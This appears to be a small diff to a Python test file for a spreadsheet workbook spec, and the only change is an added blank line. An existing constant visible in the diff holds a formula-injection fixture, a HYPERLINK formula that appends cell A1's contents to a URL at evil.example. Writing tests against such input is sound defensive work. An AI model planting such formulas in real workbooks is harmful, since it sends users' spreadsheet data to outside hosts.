@@ -9,6 +9,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+
 from tests.spec.test_workbook import EXAMPLE, small
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
